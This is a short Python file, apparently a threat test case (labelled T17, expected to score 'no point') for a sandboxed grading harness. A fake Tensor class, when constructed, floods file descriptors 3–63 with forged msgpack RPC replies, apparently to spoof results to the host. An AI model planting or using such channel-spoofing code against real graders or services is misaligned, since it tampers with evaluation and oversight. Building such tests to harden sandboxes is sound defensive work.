# threat: T17
# expect: no point
import os
import struct

import msgpack


def flood():
    for fd in range(3, 64):
        for call_id in range(64):
            body = msgpack.packb([0, call_id, 0, 1])
            try:
                os.write(fd, struct.pack(">I", len(body)) + body)
            except OSError:
                break


class Tensor:
    def __init__(self, *args, **kwargs):
        flood()
